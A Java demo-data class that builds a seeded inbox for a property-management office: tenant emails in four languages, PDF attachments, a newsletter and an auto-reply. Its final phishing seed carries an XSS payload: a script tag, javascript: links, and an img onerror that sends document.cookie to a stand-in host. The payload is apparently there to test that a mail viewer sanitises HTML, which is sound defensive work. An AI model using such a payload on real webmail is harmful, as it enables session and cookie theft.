package org.mastermail.examples.server.demo;

import static java.util.Objects.requireNonNull;

import jakarta.activation.DataHandler;
import jakarta.mail.MessagingException;
import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.util.ByteArrayDataSource;
import java.io.UnsupportedEncodingException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.jspecify.annotations.Nullable;

/**
 * The mail a property-management office finds in its {@code info@} box on a Monday: tenants writing in Polish,
 * German, Czech and English, two of them chasing an answer (replies with In-Reply-To), an invoice and a utility bill
 * as PDF attachments, an out-of-office auto-reply, a newsletter, and a phishing mail whose script must never run.
 */
final class DemoMailbox {
  private DemoMailbox() {}

  /** One seeded message; {@code ago}: how long before the demo started it was sent. */
  record Seed(String id, String fromName, String from, String subject, String text, @Nullable String html,
      @Nullable String inReplyTo, Duration ago, Map<String, String> headers, Map<String, byte[]> pdfs) {}

  /** The messages, oldest first. */
  static List<Seed> seeds() {
    List<Seed> s = new ArrayList<>();
    s.add(plain("lift-1@example.pl", "Jan Kowalski", "jan.kowalski@example.pl", "Awaria windy w budynku B",
        "Dzień dobry,\n\nod wczoraj winda w budynku B przy ul. Lipowej 12 stoi między 2. a 3. piętrem. Mieszka u nas"
            + " starsza sąsiadka, która nie może chodzić po schodach.\n\nProszę o pilną interwencję serwisu.\n\n"
            + "Z poważaniem\nJan Kowalski\nul. Lipowa 12/7, Kraków\n", null, Duration.ofHours(70)));
    s.add(with(plain("nk-2025@example.de", "Klaus Müller", "k.mueller@example.de",
        "Nebenkostenabrechnung 2025 – Rückfrage",
        "Sehr geehrte Damen und Herren,\n\nanbei sende ich Ihnen die Nebenkostenabrechnung für 2025 zurück. Die"
            + " Position „Hausmeisterdienste“ ist gegenüber dem Vorjahr um 38 % gestiegen. Können Sie mir das bitte"
            + " erläutern?\n\nMit freundlichen Grüßen\nKlaus Müller\nGartenstraße 5, Wohnung 3, Leipzig\n", null,
        Duration.ofHours(67)), Map.of(), Map.of("Nebenkostenabrechnung-2025.pdf", TinyPdf.of(List.of(
            "Nebenkostenabrechnung 2025 - Gartenstraße 5, Wohnung 3", "", "Heizung            1.284,00 EUR",
            "Wasser               412,50 EUR", "Hausmeisterdienste   356,00 EUR  (+38 %)",
            "Müllabfuhr           198,20 EUR", "", "Summe              2.250,70 EUR")))));
    s.add(plain("keys-14@example.cz", "Petra Nováková", "petra.novakova@example.cz", "Žádost o výměnu klíčů",
        "Dobrý den,\n\nztratila jsem klíč od vchodových dveří a od poštovní schránky. Je možné objednat nové klíče?"
            + " Jsem doma každý den po 16. hodině.\n\nDěkuji a přeji hezký den,\nPetra Nováková\nVinohradská 8, byt"
            + " 14, Praha\n", null, Duration.ofHours(58)));
    s.add(html("viewing-4@example.co.uk", "Sarah Miller", "sarah.miller@example.co.uk",
        "Viewing request – flat 4, 21 Park Road",
        "Hello,\n\nI saw your advert for the two-bedroom flat at 21 Park Road and would like to arrange a viewing. I"
            + " am free on Thursday or Friday afternoon.\n\nCould you also tell me whether pets are allowed?\n\n"
            + "Kind regards,\nSarah Miller\n07700 900123\n",
        "<p>Hello,</p><p>I saw your advert for the <b>two-bedroom flat at 21 Park Road</b> and would like to arrange"
            + " a viewing. I am free on <i>Thursday or Friday afternoon</i>.</p><p>Could you also tell me whether"
            + " pets are allowed?</p><p>Kind regards,<br>Sarah Miller<br>07700 900123</p>", null,
        Duration.ofHours(50)));
    s.add(plain("lift-2@example.pl", "Jan Kowalski", "jan.kowalski@example.pl", "Re: Awaria windy w budynku B",
        "Dzień dobry,\n\nwinda nadal nie działa. Czy serwis został już wezwany? Proszę o informację, kiedy możemy"
            + " spodziewać się technika.\n\nJan Kowalski\n\n> od wczoraj winda w budynku B przy ul. Lipowej 12 stoi"
            + " między 2. a 3. piętrem.\n", "lift-1@example.pl", Duration.ofHours(46)));
    s.add(with(plain("fv-042@instal-serwis.example.pl", "Agnieszka Wiśniewska", "biuro@instal-serwis.example.pl",
        "Faktura FV/2026/11/042 – przegląd instalacji gazowej",
        "Dzień dobry,\n\nw załączeniu przesyłamy fakturę za przegląd instalacji gazowej w budynkach przy ul. Lipowej"
            + " 12 i 14. Termin płatności: 14 dni.\n\nPozdrawiamy\nAgnieszka Wiśniewska\nInstal-Serwis Sp. z o.o.\n",
        null, Duration.ofHours(44)), Map.of(), Map.of("Faktura-FV-2026-11-042.pdf", TinyPdf.of(List.of(
            "Faktura VAT FV/2026/11/042", "", "Przegląd instalacji gazowej, ul. Lipowa 12 i 14",
            "Netto 1 850,00 PLN   VAT 23 % 425,50 PLN   Brutto 2 275,50 PLN", "", "Termin płatności: 14 dni")))));
    s.add(with(html("news-11@immo-news.example", "Immobilien-Newsletter", "newsletter@immo-news.example",
        "Immobilien-Newsletter November: neue Heizkostenverordnung",
        "Neue Heizkostenverordnung: was Verwalter jetzt wissen müssen.\nAbmelden: https://immo-news.example/abmelden\n",
        "<html><body><img src=\"https://immo-news.example/pixel.gif?id=4711\" width=\"1\" height=\"1\">"
            + "<h1>Neue Heizkostenverordnung</h1><p>Was Verwalter jetzt wissen müssen – <a"
            + " href=\"https://immo-news.example/artikel/hkvo\">weiterlesen</a>.</p><p style=\"color:#888\">"
            + "<a href=\"https://immo-news.example/abmelden\">Abmelden</a></p></body></html>", null,
        Duration.ofHours(42)), Map.of("List-Unsubscribe",
        "<mailto:unsubscribe@immo-news.example?subject=unsubscribe>, <https://immo-news.example/abmelden?id=4711>",
        "List-Id", "Immobilien-Newsletter <news.immo-news.example>", "Precedence", "bulk"), Map.of()));
    s.add(plain("boiler-1@example.cz", "Tomáš Dvořák", "tomas.dvorak@example.cz", "Revize plynového kotle – termín",
        "Dobrý den,\n\nv dopise jste oznámili revizi plynového kotle na příští týden. Bohužel v úterý nebudu doma."
            + " Bylo by možné termín přesunout na středu ráno?\n\nS pozdravem\nTomáš Dvořák\n", null,
        Duration.ofHours(36)));
    s.add(plain("parking-17@example.de", "Lukas Schneider", "lukas.schneider@example.de",
        "Kündigung Stellplatz Nr. 17",
        "Sehr geehrte Damen und Herren,\n\nhiermit kündige ich meinen Tiefgaragenstellplatz Nr. 17 fristgerecht"
            + " zum 31.12.2026. Bitte bestätigen Sie mir den Eingang der Kündigung.\n\nMit freundlichen Grüßen\n"
            + "Lukas Schneider\n", null, Duration.ofHours(26)));
    s.add(with(plain("ooo-17@example.de", "Lukas Schneider", "lukas.schneider@example.de",
        "Abwesenheitsnotiz: Kündigung Stellplatz Nr. 17",
        "Vielen Dank für Ihre Nachricht. Ich bin bis zum 30.11. nicht im Büro und habe keinen Zugriff auf meine"
            + " E-Mails.\n", null, Duration.ofHours(25)), Map.of("Auto-Submitted", "auto-replied",
        "X-Auto-Response-Suppress", "All"), Map.of()));
    s.add(plain("leak-12@example.com", "Michael Brown", "m.brown@example.com",
        "URGENT: water leak in bathroom – flat 12",
        "Hi,\n\nwater is coming through the bathroom ceiling of flat 12 at 3 Mill Lane. I've put a bucket under it"
            + " but it's getting worse. Can someone send a plumber today?\n\nThanks,\nMichael Brown\n", null,
        Duration.ofHours(10)));
    s.add(plain("nk-2025-2@example.de", "Klaus Müller", "k.mueller@example.de",
        "AW: Nebenkostenabrechnung 2025 – Rückfrage",
        "Sehr geehrte Damen und Herren,\n\nich habe leider noch keine Antwort erhalten. Bitte melden Sie sich bis"
            + " Ende der Woche.\n\nMfG\nKlaus Müller\n\n> anbei sende ich Ihnen die Nebenkostenabrechnung für 2025"
            + " zurück.\n", "nk-2025@example.de", Duration.ofHours(8)));
    s.add(plain("deposit-3@example.pl", "Piotr Zieliński", "p.zielinski@example.pl", "Pytanie o zwrot kaucji",
        "Dzień dobry,\n\nwyprowadziłem się z mieszkania nr 3 przy ul. Ogrodowej 9 z końcem października. Protokół"
            + " zdawczo-odbiorczy został podpisany bez uwag. Kiedy mogę spodziewać się zwrotu kaucji?\n\nPozdrawiam\n"
            + "Piotr Zieliński\n", null, Duration.ofHours(6)));
    s.add(plain("viewing-4b@example.co.uk", "Sarah Miller", "sarah.miller@example.co.uk",
        "Re: Viewing request – flat 4, 21 Park Road",
        "Hello again,\n\njust checking whether Thursday at 4 pm would work for the viewing?\n\nBest,\nSarah\n",
        "viewing-4@example.co.uk", Duration.ofHours(4)));
    s.add(html("parcel-1@dhl-paket.example", "DHL Paket", "noreply@dhl-paket.example",
        "Ihr Paket konnte nicht zugestellt werden",
        "Ihr Paket konnte nicht zugestellt werden. Bitte bestätigen Sie Ihre Adresse.\n",
        "<p>Ihr Paket konnte nicht zugestellt werden.</p><script>alert('hijacked')</script>"
            + "<img src=\"x\" onerror=\"fetch('https://dhl-paket.example/steal?c='+document.cookie)\">"
            + "<p><a href=\"javascript:alert(1)\">Adresse bestätigen</a> oder"
            + " <a href=\"https://dhl-paket.example/track\" onclick=\"alert(2)\">Sendung verfolgen</a></p>", null,
        Duration.ofHours(2)));
    return s;
  }

  /** The seeds as MIME messages to {@code to}, dated {@code ago} before {@code now}. */
  static List<MimeMessage> messages(String to, Instant now) {
    List<MimeMessage> out = new ArrayList<>();
    for (Seed seed : seeds()) {
      out.add(mime(seed, to, now));
    }
    return out;
  }

  static MimeMessage mime(Seed seed, String to, Instant now) {
    try {
      MimeMessage m = new FixedIdMessage(Session.getInstance(new Properties()), seed.id());
      m.setFrom(new InternetAddress(seed.from(), seed.fromName(), "UTF-8"));
      m.setRecipient(MimeMessage.RecipientType.TO, new InternetAddress(to));
      m.setSubject(seed.subject(), "UTF-8");
      m.setSentDate(Date.from(now.minus(seed.ago())));
      if (seed.inReplyTo() != null) {
        m.setHeader("In-Reply-To", "<" + seed.inReplyTo() + ">");
        m.setHeader("References", "<" + seed.inReplyTo() + ">");
      }
      for (Map.Entry<String, String> h : seed.headers().entrySet()) {
        m.setHeader(h.getKey(), h.getValue());
      }
      if (seed.pdfs().isEmpty() && seed.html() == null) {
        m.setText(seed.text(), "UTF-8");
      } else if (seed.pdfs().isEmpty()) {
        m.setContent(alternative(seed));
      } else {
        MimeBodyPart first = new MimeBodyPart();
        if (seed.html() == null) {
          first.setText(seed.text(), "UTF-8");
        } else {
          first.setContent(alternative(seed));
        }
        MimeMultipart mixed = new MimeMultipart("mixed", first);
        for (Map.Entry<String, byte[]> pdf : seed.pdfs().entrySet()) {
          MimeBodyPart file = new MimeBodyPart();
          file.setDataHandler(new DataHandler(new ByteArrayDataSource(pdf.getValue(), "application/pdf")));
          file.setFileName(pdf.getKey());
          file.setDisposition(MimeBodyPart.ATTACHMENT);
          mixed.addBodyPart(file);
        }
        m.setContent(mixed);
      }
      m.saveChanges();
      return m;
    } catch (MessagingException | UnsupportedEncodingException e) {
      throw new IllegalStateException("cannot build demo message " + seed.id(), e);
    }
  }

  private static MimeMultipart alternative(Seed seed) throws MessagingException {
    MimeBodyPart text = new MimeBodyPart();
    text.setText(seed.text(), "UTF-8");
    MimeBodyPart html = new MimeBodyPart();
    html.setText(requireNonNull(seed.html()), "UTF-8", "html");
    return new MimeMultipart("alternative", text, html);
  }

  private static Seed plain(String id, String fromName, String from, String subject, String text,
      @Nullable String inReplyTo, Duration ago) {
    return new Seed(id, fromName, from, subject, text, null, inReplyTo, ago, Map.of(), Map.of());
  }

  private static Seed html(String id, String fromName, String from, String subject, String text, String html,
      @Nullable String inReplyTo, Duration ago) {
    return new Seed(id, fromName, from, subject, text, html, inReplyTo, ago, Map.of(), Map.of());
  }

  private static Seed with(Seed s, Map<String, String> headers, Map<String, byte[]> pdfs) {
    return new Seed(s.id(), s.fromName(), s.from(), s.subject(), s.text(), s.html(), s.inReplyTo(), s.ago(),
        new LinkedHashMap<>(headers), new LinkedHashMap<>(pdfs));
  }

  /** Keeps the seed's Message-ID: Jakarta Mail would make a new one on saveChanges, breaking the replies' threads. */
  private static final class FixedIdMessage extends MimeMessage {
    private final String id;

    FixedIdMessage(Session session, String id) {
      super(session);
      this.id = id;
    }

    @Override
    protected void updateMessageID() throws MessagingException {
      setHeader("Message-ID", "<" + id + ">");
    }
  }
}
